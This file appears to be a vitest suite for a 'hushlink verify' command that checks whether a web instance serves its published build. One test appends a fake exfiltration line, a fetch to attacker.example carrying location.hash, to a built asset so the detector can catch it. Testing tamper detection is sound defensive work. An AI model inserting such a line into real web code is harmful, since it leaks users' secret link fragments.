import {
  appendFileSync,
  cpSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runCli } from '../cli/run-cli.js'
import { REPO_ROOT, startServer, type RunningServer } from '../support/server.js'

const BUILT = join(REPO_ROOT, 'web', 'dist')
const MANIFEST = join('.well-known', 'hushlink-manifest.json')

let dist: string
let server: RunningServer

beforeAll(async () => {
  // A copy of the build, so the test can alter files on disk without touching web/dist.
  dist = mkdtempSync(join(tmpdir(), 'hushlink-verify-dist-'))
  cpSync(BUILT, dist, { recursive: true })
  server = await startServer({ env: { WEB_DIST: dist } })
})

afterAll(async () => {
  await server?.stop()
  rmSync(dist, { recursive: true, force: true })
})

const verify = (url: string, ...options: string[]) =>
  runCli(['verify', ...options, url]).then((r) => ({ ...r, out: r.stdout.toString('utf8') }))

function asset(pattern: RegExp): string {
  const name = readdirSync(join(dist, 'assets')).find((n) => pattern.test(n))
  if (name === undefined) throw new Error(`no asset matches ${pattern}`)
  return name
}

/**
 * A reverse proxy in front of the instance, as an operator could put one,
 * that rewrites some responses: the instance a visitor would be served.
 */
async function tamperingProxy(
  upstream: string,
  rewrite: (path: string, type: string, body: Buffer) => { type: string; body: Buffer },
): Promise<{ url: string; close(): Promise<void> }> {
  const proxy: Server = createServer((req, res) => {
    void fetch(`${upstream}${req.url ?? '/'}`, { redirect: 'manual' }).then(async (r) => {
      const out = rewrite(
        new URL(req.url ?? '/', upstream).pathname,
        r.headers.get('content-type') ?? '',
        Buffer.from(await r.arrayBuffer()),
      )
      res.writeHead(r.status, { 'content-type': out.type })
      res.end(out.body)
    })
  })
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve))
  const address = proxy.address()
  const port = typeof address === 'object' && address ? address.port : 0
  return {
    url: `http://127.0.0.1:${port}`,
    close: () => new Promise((resolve) => proxy.close(() => resolve())),
  }
}

describe('hushlink verify', () => {
  it('passes against a server started from the build, with its manifest or a fresh local build', async () => {
    const given = await verify(server.url, '--manifest', join(dist, MANIFEST))
    expect(given.stderr).toBe('')
    expect(given.code).toBe(0)
    expect(given.out).toContain('The instance publishes this same manifest.')
    expect(given.out).toMatch(/^Fingerprint: ([0-9a-f]{4} ){15}[0-9a-f]{4}$/m)
    expect(given.out).toMatch(/^OK: \d+ paths/m)

    const built = await verify(server.url, '--build')
    expect(built.code, built.out + built.stderr).toBe(0)
    expect(built.out).toContain('a local build of this checkout')
  })

  it.each([
    ['the app script', /^index-.*\.js$/],
    // Loaded on demand, so only index.html's preload template and the manifest name it.
    ['a page loaded on demand', /^page-admin-.*\.js$/],
  ])('fails and names the file when %s is altered on disk', async (_what, pattern) => {
    const name = asset(pattern)
    const file = join(dist, 'assets', name)
    const original = readFileSync(file)
    appendFileSync(file, '\n;fetch("https://attacker.example/"+location.hash)\n')
    try {
      const result = await verify(server.url, '--manifest', join(dist, MANIFEST))
      expect(result.code).toBe(9)
      const manifest = JSON.parse(readFileSync(join(dist, MANIFEST), 'utf8')) as {
        files: Record<string, { sha256: string }>
      }
      const expected = manifest.files[`/assets/${name}`]?.sha256
      expect(expected).toMatch(/^[0-9a-f]{64}$/)
      expect(result.out).toContain(
        `DIFFERENT  /assets/${name}, loaded by /\n    expected sha256 ${expected}\n    served   sha256 `,
      )
      expect(result.stderr).toMatch(
        /the instance does not serve this build: \d+ differences? \(listed above\)/,
      )
    } finally {
      writeFileSync(file, original)
    }
  })

  it('fails when the page gains a script, naming the extra file', async () => {
    writeFileSync(join(dist, 'assets', 'extra.js'), 'console.log("extra")\n')
    const proxy = await tamperingProxy(server.url, (_path, type, body) => ({
      type,
      body: type.startsWith('text/html')
        ? Buffer.from(
            body
              .toString('utf8')
              .replace('</head>', '<script type="module" src="/assets/extra.js"></script></head>'),
          )
        : body,
    }))
    try {
      const result = await verify(proxy.url, '--manifest', join(dist, MANIFEST))
      expect(result.code).toBe(9)
      expect(result.out).toMatch(/^DIFFERENT {2}\/\n {4}expected sha256 [0-9a-f]{64}\n/m)
      expect(result.out).toMatch(
        /^EXTRA {6}\/assets\/extra\.js, loaded by \/: not in the manifest\n {4}served {3}sha256 [0-9a-f]{64} \(HTTP 200/m,
      )
    } finally {
      await proxy.close()
      rmSync(join(dist, 'assets', 'extra.js'))
    }
  })

  it('fails when an asset is served with another Content-Type', async () => {
    const name = asset(/^index-.*\.css$/)
    const proxy = await tamperingProxy(server.url, (path, type, body) => ({
      type: path.endsWith('.css') ? 'text/plain' : type,
      body,
    }))
    try {
      const result = await verify(proxy.url, '--manifest', join(dist, MANIFEST))
      expect(result.code).toBe(9)
      expect(result.out).toContain(
        `TYPE       /assets/${name}, loaded by /\n    expected Content-Type text/css\n    served   Content-Type text/plain`,
      )
      expect(result.out).not.toContain('DIFFERENT')
    } finally {
      await proxy.close()
    }
  })

  it('is in the CLI help', async () => {
    const help = await runCli(['--help'])
    expect(help.stdout.toString('utf8')).toMatch(/^ {2}verify {4}check that an instance serves/m)
    const own = await runCli(['verify', '--help'])
    expect(own.stdout.toString('utf8')).toContain('What it cannot prove')
  })
})
